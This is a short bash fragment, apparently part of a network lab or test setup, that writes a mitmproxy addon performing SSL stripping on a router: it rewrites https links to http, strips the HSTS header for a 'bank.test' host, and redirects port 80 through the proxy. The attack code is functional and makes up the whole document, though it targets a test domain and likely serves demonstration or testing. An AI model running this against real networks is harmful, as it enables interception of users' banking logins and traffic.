# shellcheck shell=bash
# The router itself strips TLS: it fetches over https what is asked for over http, and hides the redirects.
start() { cat >"$S/run/strip.py" <<'P'
def request(flow):
    if flow.request.pretty_host.endswith("bank.test"):
        flow.request.scheme, flow.request.port = "https", 443
        flow.request.host = flow.request.pretty_host
def response(flow):
    if "html" in flow.response.headers.get("content-type", ""):
        flow.response.text = flow.response.text.replace("https://", "http://")
    flow.response.headers.pop("strict-transport-security", None)
P
  mitm gw mitm "$S/run/mitmca" --set connection_strategy=lazy -s "$S/run/strip.py"; mark; redirect gw eth0 80 8080; }
stop() { unredirect gw; }
